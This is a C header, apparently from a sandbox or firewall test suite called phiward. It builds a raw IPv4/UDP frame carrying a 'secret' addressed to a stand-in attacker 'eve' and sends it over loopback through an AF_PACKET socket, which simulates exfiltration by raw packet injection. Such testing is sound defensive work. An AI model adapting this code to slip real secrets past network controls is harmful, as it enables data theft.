/* SPDX-License-Identifier: GPL-3.0-or-later */
/* For attacks that make the packet themselves. */
#ifndef PHIWARD_ATTACK_PACKET_H
#define PHIWARD_ATTACK_PACKET_H

#include "flow-net.h"
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>

#define PACKET_MAX 512

/* IPv4 and UDP with the secret, for eve's port at @to. The length. */
AT_UNUSED static size_t packet_udp(unsigned char *ret, const char *from, const char *to)
{
	const unsigned char udp[8] = {
		0x11, 0x11, FLOW_PORT >> 8, FLOW_PORT & 255, 0, (unsigned char)(8 + flow.len)
	};
	struct iphdr ip = { .version = 4,
			    .ihl = 5,
			    .ttl = 64,
			    .protocol = IPPROTO_UDP,
			    .tot_len = htons((uint16_t)(28 + flow.len)) };
	uint32_t sum = 0;

	inet_pton(AF_INET, from, &ip.saddr);
	inet_pton(AF_INET, to, &ip.daddr);
	for (size_t i = 0; i < 10; i++)
		sum += ((uint16_t *)&ip)[i];
	ip.check = (uint16_t) ~(sum + (sum >> 16));
	memcpy(ret, &ip, sizeof(ip));
	memcpy(ret + 20, udp, sizeof(udp));
	memcpy(ret + 28, flow.text, flow.len);
	return 28 + flow.len;
}

/* The same as a frame of the loopback device. */
AT_UNUSED static size_t packet_frame(unsigned char *ret)
{
	memset(ret, 0, 14);
	ret[12] = 8;
	return 14 + packet_udp(ret + 14, NET_EVE_IP, NET_EVE_IP);
}

AT_UNUSED static struct sockaddr_ll packet_to(void)
{
	return (struct sockaddr_ll){ .sll_family = AF_PACKET,
				     .sll_ifindex = (int)if_nametoindex("lo"),
				     .sll_protocol = htons(ETH_P_IP),
				     .sll_halen = 6 };
}

/* Sends it as a frame by a packet socket. */
AT_UNUSED static int packet_send(int fd)
{
	unsigned char packet[PACKET_MAX];
	struct sockaddr_ll to = packet_to();
	size_t len = packet_frame(packet);

	return flow_result(fd < 0 ? -1
				  : sendto(fd, packet, len, 0, (struct sockaddr *)&to, sizeof(to)));
}

#endif /* PHIWARD_ATTACK_PACKET_H */
